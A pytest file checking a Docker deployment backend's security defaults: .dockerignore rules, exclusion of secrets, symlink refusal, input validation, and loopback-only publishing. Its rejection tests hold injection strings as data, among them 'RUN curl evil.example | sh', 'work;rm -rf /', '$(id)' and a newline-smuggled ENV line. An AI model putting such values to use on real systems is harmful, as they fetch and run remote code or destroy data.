"""The Docker backend is safe by default (issue 15): what goes into an image (Docker's .dockerignore rules, the
default ignores, symlinks out of the folder), what reaches a step's container, what a Dockerfile may be made of,
and where services are published. No Docker engine needed.
"""

from __future__ import annotations

import json
import os
import re
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from scanflow_jupyter.deploy.docker import compose
from scanflow_jupyter.deploy.docker.backend import DockerBackend, DockerHandle
from scanflow_jupyter.deploy.docker.dockerfile import ImageOptions, runtime_dockerfile, step_dockerfile
from scanflow_jupyter.deploy.docker.images import app_context, plan
from scanflow_jupyter.engine.backend import Outcome, Task
from scanflow_jupyter.errors import DockerInputError
from scanflow_jupyter.workflow import Executor, load

from .conftest import copy_tabular, with_service

# Files of the application folder in the .dockerignore table (besides scanflow.yaml and step.py).
FILES = [
    "secrets.env",
    "sub/secrets.env",
    "README.md",
    "README-secret.md",
    "notes.md",
    "sub/temp.txt",
    "sub/deeper/temp.txt",
    "tempa",
    "main.go",
    "pkg/x.go",
    "build/out.bin",
    "build/keep/me.txt",
]


def folder_with(root: Path, files: list[str], dockerignore: list[str] | None = None) -> Any:
    """An application folder holding ``files`` (and a .dockerignore of ``dockerignore``), loaded."""
    spec = {"scanflow": 1, "name": "demo", "workflows": [{"name": "main", "nodes": [{"name": "a", "script": "a.py"}]}]}
    root.mkdir(parents=True, exist_ok=True)
    (root / "scanflow.yaml").write_text(yaml.safe_dump(spec))
    (root / "a.py").write_text("print('a')\n")
    for rel in files:
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(rel)
    if dockerignore is not None:
        (root / ".dockerignore").write_text("\n".join(dockerignore) + "\n")
    return load(root)


def context_files(app: Any, **options: Any) -> set[str]:
    files = set(app_context(app, ImageOptions(**options), prefix="").files)
    return files - {"scanflow.yaml", "a.py", ".dockerignore"}


# Docker's documented patterns (docs.docker.com/build/concepts/context/#dockerignore-files) and the ones the
# security review found the old matcher got wrong: pattern lines -> the files of FILES they leave out.
TABLE = [
    (["/secrets.env"], {"secrets.env"}),  # the root file only: a leading slash is the context's root
    (["./secrets.env"], {"secrets.env"}),  # so is a leading ./
    (["secrets.env"], {"secrets.env"}),  # a plain name matches at the root only
    (["**/secrets.env"], {"secrets.env", "sub/secrets.env"}),  # ** matches any number of folders, none too
    (["*/temp*"], {"sub/temp.txt"}),  # one folder below the root
    (["*/*/temp*"], {"sub/deeper/temp.txt"}),  # two folders below
    (["temp?"], {"tempa"}),  # one character
    (["**/*.go"], {"main.go", "pkg/x.go"}),
    (["*.md", "!README.md"], {"README-secret.md", "notes.md"}),  # an exception after the rule wins
    (["*.md", "!README*.md", "README-secret.md"], {"README-secret.md", "notes.md"}),  # the last match wins
    (["build/**"], {"build/out.bin", "build/keep/me.txt"}),  # everything inside a folder
    (["build", "!build/keep"], {"build/out.bin"}),  # a folder left out, one inside it brought back
    (["# secrets.env", "", "   "], set()),  # comments and blank lines
    (["sub/"], {"sub/secrets.env", "sub/temp.txt", "sub/deeper/temp.txt"}),  # a trailing slash changes nothing
    (["sub/../secrets.env"], {"secrets.env"}),  # cleaned as Go's filepath.Clean does
]


@pytest.mark.parametrize(("patterns", "left_out"), TABLE, ids=[" ".join(p) or "blank" for p, _ in TABLE])
def test_dockerignore_patterns_follow_dockers_rules(tmp_path: Path, patterns: list[str], left_out: set[str]) -> None:
    app = folder_with(tmp_path / "app", FILES, patterns)
    assert context_files(app) == set(FILES) - left_out


def test_secrets_run_state_and_checkpoints_are_left_out_by_default(tmp_path: Path) -> None:
    left_out = [
        ".env",
        "sub/.env",
        "server.pem",
        "sub/tls/server.key",
        ".git/config",
        "sub/.git/HEAD",
        ".scanflow/runs/x/state.json",
        ".ipynb_checkpoints/a-checkpoint.ipynb",
        "notebooks/.ipynb_checkpoints/b-checkpoint.ipynb",
        "steps/__pycache__/a.cpython-311.pyc",
        "work/out.csv",  # a shared data folder: a volume, never in an image
    ]
    kept = ["steps/a.py", "env.py", "keys/README.md", "notebooks/b.ipynb"]
    app = folder_with(tmp_path / "app", [*left_out, *kept])
    assert context_files(app) == set(kept)


def test_dockerignore_may_bring_a_default_back_but_never_a_data_folder(tmp_path: Path) -> None:
    app = folder_with(tmp_path / "app", [".env", "work/out.csv", "data/raw.csv"], ["!.env", "!work"])
    assert context_files(app, data_dirs=("work", "data")) == {".env"}


def test_a_symlink_out_of_the_folder_is_refused_with_the_fix(tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "id_rsa").write_text("PRIVATE")
    app = folder_with(tmp_path / "app", ["steps/a.py"])
    (app.folder / "steps" / "creds").symlink_to(tmp_path / "outside" / "id_rsa")
    with pytest.raises(
        DockerInputError, match=r"steps/creds in the application folder .* is a symlink to .*id_rsa, outside"
    ):
        context_files(app)
    with pytest.raises(DockerInputError, match=r"Add 'steps/creds' to .*\.dockerignore"):
        plan(app, ImageOptions(), "sha256:base", "3.17.2")
    (app.folder / ".dockerignore").write_text("steps/creds\n")  # the fix the message gives
    assert context_files(app) == {"steps/a.py"}


def test_a_symlinked_folder_out_of_the_folder_is_refused_too(tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    app = folder_with(tmp_path / "app", ["steps/a.py"])
    (app.folder / "data").symlink_to(tmp_path / "outside", target_is_directory=True)
    with pytest.raises(DockerInputError, match=r"data in the application folder .* is a symlink"):
        context_files(app)


def test_a_symlink_inside_the_folder_brings_its_content(tmp_path: Path) -> None:
    app = folder_with(tmp_path / "app", ["steps/a.py"])
    (app.folder / "alias.py").symlink_to(app.folder / "steps" / "a.py")
    files = app_context(app, ImageOptions(), prefix="").files
    assert files["alias.py"][0] == b"steps/a.py"


# -- what a Dockerfile may be made of -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "base_image",
    [
        "python:3.11-slim\nRUN curl evil.example | sh",
        "python:3.11-slim\n",
        "python 3.11",
        "Python:3.11",
        "python:3.11;rm",
        "",
        "python:bad tag",
    ],
)
def test_a_base_image_that_is_no_image_reference_is_refused(base_image: str) -> None:
    with pytest.raises(DockerInputError, match=r"base_image " + re.escape(repr(base_image))):
        ImageOptions(base_image=base_image)


@pytest.mark.parametrize(
    "base_image",
    [
        "python:3.11-slim",
        "scanflow/debian-python:bookworm",
        "registry.example:5000/team/python:3.11",
        "localhost/python",
        f"python:3.11@sha256:{'a' * 64}",
        f"ghcr.io/org/img@sha256:{'0' * 64}",
    ],
)
def test_image_references_are_accepted(base_image: str) -> None:
    assert f"FROM {base_image}\n" in runtime_dockerfile(ImageOptions(base_image=base_image), "3.17.2")


@pytest.mark.parametrize("folder", ["../up", "/abs/../x", "work dir", "work;rm -rf /", "$(id)", "a/./b", "", "w`x`"])
def test_a_data_folder_that_is_no_plain_relative_path_is_refused(folder: str) -> None:
    with pytest.raises(DockerInputError, match=r"data_dirs entry " + re.escape(repr(folder))):
        ImageOptions(data_dirs=(folder,))


def test_data_folders_are_created_without_a_shell() -> None:
    text = step_dockerfile(ImageOptions(data_dirs=("work", "data/shared")), "rt", requirements=False, command=["x"])
    assert 'RUN ["install", "-d", "-o", "scanflow", "-g", "scanflow", "/app/work", "/app/data/shared"]' in text


def test_a_pip_index_with_credentials_is_in_no_dockerfile(tmp_path: Path) -> None:
    secret = "https://ann:hunter2@pypi.example.org/simple"
    extra = "https://bob:hunter3@extra.example.org/simple"
    options = ImageOptions(
        pip_index_url=secret, pip_extra_index_urls=(extra,), pip_trusted_hosts=("extra.example.org",)
    )
    app = load(copy_tabular(tmp_path / "tabular"))
    specs = plan(app, options, "sha256:base", "3.17.2")
    for spec in specs:
        dockerfile = spec.context.files["Dockerfile"][0].decode()
        assert "hunter" not in dockerfile and "PIP_INDEX_URL" not in dockerfile
        assert all(b"hunter" not in data for data, _mode in spec.context.files.values())
        assert "hunter" not in repr(spec)
        settings = f"[global]\nindex-url = {secret}\nextra-index-url = {extra}\n"
        assert spec.build_args == {"FTP_PROXY": json.dumps({"pip.conf": settings}), "ftp_proxy": ""}
    # A new password is not a new image; other pip settings still are.
    again = plan(app, ImageOptions(pip_index_url=secret.replace("hunter2", "rotated")), "sha256:base", "3.17.2")
    assert [s.tag for s in again] == [s.tag for s in plan(app, ImageOptions(), "sha256:base", "3.17.2")]
    assert 'PIP_TRUSTED_HOST="extra.example.org"' in specs[0].context.files["Dockerfile"][0].decode()


def test_an_executors_own_dockerfile_gets_no_index_settings(tmp_path: Path) -> None:
    folder = copy_tabular(tmp_path / "tabular")
    (folder / "Dockerfile.gather").write_text("FROM scanflow/debian-python:bookworm\nCOPY . /app\n")
    app = load(folder)
    app.workflow().find("gather").dockerfile = "Dockerfile.gather"  # type: ignore[union-attr]
    specs = {s.node: s for s in plan(app, ImageOptions(pip_index_url="https://a:b@x.example/simple"), "id", "3")}
    assert specs["gather"].build_args == {} and "[global]" in specs["preprocess"].build_args["FTP_PROXY"]
    # Without index settings the arguments are still given, empty: an FTP proxy the docker SDK would take from
    # ~/.docker/config.json in their place is never read as pip's settings.
    empty = {"FTP_PROXY": "", "ftp_proxy": ""}
    assert {s.node: s.build_args for s in plan(app, ImageOptions(), "id", "3")}["preprocess"] == empty


def test_a_ca_bundle_rides_in_build_arguments_cut_to_fit(tmp_path: Path) -> None:
    cert = "-----BEGIN CERTIFICATE-----\n" + "QUJD" * 16 + "\n-----END CERTIFICATE-----\n"
    bundle = tmp_path / "bundle.pem"
    bundle.write_text(cert * 1800)  # 214 KB, as a machine's whole bundle (220 KB)
    args = ImageOptions(ca_bundle=bundle, pip_index_url="https://x.example/simple").build_args()
    assert [len(v) for v in args.values()] == [120_000, len("".join(args.values())) - 120_000]
    payload = json.loads("".join(args.values()))
    assert payload["ca"] == cert * 1800 and "cert = /tmp/scanflow-ca.crt" in payload["pip.conf"]
    text = runtime_dockerfile(ImageOptions(ca_bundle=bundle), "3")
    assert "COPY" not in text and "CERT" not in text and "QUJD" not in text  # no file, no variable, no content
    bundle.write_text(cert * 2200)
    with pytest.raises(DockerInputError, match=r"CA bundle '.*bundle.pem' is too large to pass to a build"):
        ImageOptions(ca_bundle=bundle).build_args()


def test_a_pip_index_url_with_a_newline_is_refused() -> None:
    with pytest.raises(DockerInputError, match=r"pip index URL 'https://\*\*\*@x.example/simple\\n.*' holds a space"):
        ImageOptions(pip_index_url="https://a:secret@x.example/simple\nENV X=1")


# -- where services are published ---------------------------------------------------------------------------------
def images_of(app: Any) -> dict[str, str]:
    return {s.node: f"scanflow/x:{i}" for i, s in enumerate(plan(app, ImageOptions(), "id", "3"))}


def test_compose_publishes_services_on_loopback_unless_told(tmp_path: Path) -> None:
    app = with_service(load(copy_tabular(tmp_path / "tabular")))
    images = images_of(app)
    doc = yaml.safe_load(compose.compose_file(app, images))
    assert doc["services"]["predictor"]["ports"] == ["127.0.0.1:8080:8080"]
    assert doc["services"]["tracker"]["ports"] == ["127.0.0.1::5000"]
    opened = yaml.safe_load(compose.compose_file(app, images, publish="0.0.0.0"))
    assert opened["services"]["predictor"]["ports"] == ["0.0.0.0:8080:8080"]
    assert yaml.safe_load(compose.compose_file(app, images, publish="::1"))["services"]["predictor"]["ports"] == [
        "[::1]:8080:8080"
    ]
    with pytest.raises(DockerInputError, match=r"publish 'everywhere' is not an IP address.*'127.0.0.1'"):
        compose.compose_file(app, images, publish="everywhere")


def test_a_stack_publishes_no_port_unless_every_interface_is_asked(tmp_path: Path) -> None:
    app = with_service(load(copy_tabular(tmp_path / "tabular")))
    images = images_of(app)
    closed = yaml.safe_load(compose.stack_file(app, images))
    assert all("ports" not in s for s in closed["services"].values())
    opened = yaml.safe_load(compose.stack_file(app, images, publish="0.0.0.0"))
    assert opened["services"]["predictor"]["ports"] == [
        {"target": 8080, "published": 8080, "protocol": "tcp", "mode": "host"}
    ]
    assert "ports" not in opened["services"]["tracker"]
    with pytest.raises(DockerInputError, match=r"A swarm stack cannot publish on '127.0.0.1'.*'0.0.0.0'"):
        compose.stack_file(app, images, publish="127.0.0.1")


def test_serve_refuses_a_publish_address_before_docker(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from scanflow_jupyter.deploy.docker import DockerApp

    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/nothing.sock")  # refused before any engine is asked
    deployment = DockerApp(with_service(load(copy_tabular(tmp_path / "tabular"))))
    with pytest.raises(DockerInputError, match=r"publish '0.0.0.0:8080' is not an IP address"):
        deployment.serve("predictor", publish="0.0.0.0:8080")


# -- what reaches a step's container --------------------------------------------------------------------------------
class RecordingBackend(DockerBackend):
    """The Docker backend's translation of each task the engine hands it, recorded instead of run."""

    def __init__(self, nodes: dict[str, Executor], tracking_uri: tuple[str, str]) -> None:
        images = {a: ("scanflow/demo:t", False) for a in nodes}
        super().__init__(None, "demo", nodes, images, "scanflow-demo", tracking_uri=tracking_uri)  # type: ignore[arg-type]
        self.envs: dict[str, dict[str, str]] = {}
        self.commands: dict[str, list[str]] = {}
        self.tasks: dict[str, Task] = {}

    def submit(self, task: Task) -> DockerHandle:
        handle = DockerHandle(task, task.address)
        self.tasks[task.address] = task
        self.envs[task.address] = self.environment(task, None)  # what _start gives the container
        self.commands[task.address] = self.command(task)
        if task.run_id_fd is None:
            handle.ready.set()
            return handle
        copy = os.dup(task.run_id_fd)  # the runner writes the step's run id once submit returned, as to a container

        def take() -> None:
            with os.fdopen(copy, "rb") as pipe:
                pipe.read()
            handle.ready.set()

        threading.Thread(target=take, daemon=True).start()
        return handle

    def wait(self, handle: DockerHandle) -> Outcome:
        handle.ready.wait()
        return Outcome(0)


@pytest.mark.parametrize("tracking", [True, False])
def test_a_step_container_gets_only_the_variables_it_needs(
    make_app: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, tracking: bool
) -> None:
    from scanflow_jupyter.engine.runner import run

    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", "hunter2-password")
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", "hunter2-token")
    monkeypatch.setenv("MLFLOW_S3_ENDPOINT_URL", "https://hunter2.example.org")
    monkeypatch.setenv("SCANFLOW_CA_BUNDLE", "/home/me/hunter2-ca.pem")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "hunter2-aws")
    app = make_app(
        [
            {"name": "a", "script": "step.py", "env": {"MODE": "fast", "SCANFLOW_OWN": "mine"}},
            {"name": "b", "script": "step.py", "depends_on": ["a"]},
        ]
    )
    store = f"sqlite:///{app.folder}/.scanflow/mlflow.db"  # what the engine tracks to, as seen from here
    backend = RecordingBackend({n.name: n for n in app.workflow().nodes}, (store, "http://tracker:5000"))
    result = run(app, "main", backend=backend, tracking=tracking)
    assert result.status == "succeeded"
    assert set(backend.envs) == {"a", "b"}
    for address, env in backend.envs.items():
        assert "hunter2" not in repr(env), env
        assert env["SCANFLOW_RUN_ID"] == result.run_id and env["SCANFLOW_NODE"] == address
        assert env["MLFLOW_TRACKING_URI"] == "http://tracker:5000"  # the tracker as the container reaches it
        assert not {"PATH", "HOME", "PYTHONPATH", "SCANFLOW_RUN_ID_FD"} & set(env)
        engine = {"SCANFLOW_RUN_ID", "SCANFLOW_NODE", "MLFLOW_TRACKING_URI", "PYTHONUNBUFFERED"}
        quiet = {"MLFLOW_LOGGING_LEVEL", "MLFLOW_ENABLE_ARTIFACTS_PROGRESS_BAR", "TF_CPP_MIN_LOG_LEVEL"}
        tracked = {"MLFLOW_EXPERIMENT_ID"} if tracking else set()
        own = {"MODE", "SCANFLOW_OWN"} if address == "a" else set()
        assert set(env) == engine | quiet | tracked | own
    assert backend.envs["a"]["MODE"] == "fast" and backend.envs["a"]["SCANFLOW_OWN"] == "mine"
    for task in backend.tasks.values():  # the engine's task itself holds nothing of this machine's environment
        assert "hunter2" not in repr((task.env, task.defaults)) and "PATH" not in task.env
        assert task.argv == ["script", "step.py"]
    assert backend.commands["a"] == ["python", "/opt/scanflow/launch.py", "script", "step.py"]


def test_an_untracked_step_keeps_its_own_tracking_uri(tmp_path: Path) -> None:
    node = Executor(name="a", script="step.py", env={"MLFLOW_TRACKING_URI": "http://elsewhere:5000"})
    backend = RecordingBackend({"a": node}, ("http://127.0.0.1:1234", "http://tracker:5000"))
    own = {"MLFLOW_TRACKING_URI": "http://elsewhere:5000", "SCANFLOW_RUN_ID": "r1", "SCANFLOW_NODE": "a"}
    task = Task("r1", "a", ["script", "step.py"], tmp_path, own, tmp_path / "o", tmp_path / "e")
    assert backend.environment(task, None)["MLFLOW_TRACKING_URI"] == "http://elsewhere:5000"


def test_the_cli_refuses_publish_on_kubernetes(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from scanflow_jupyter.cli import main

    folder = str(copy_tabular(tmp_path / "tabular"))
    result = CliRunner().invoke(main, ["deploy", folder, "--to", "kubernetes", "--publish", "0.0.0.0"])
    assert result.exit_code == 2
    assert "--publish applies to --to compose, stack and swarm" in result.output
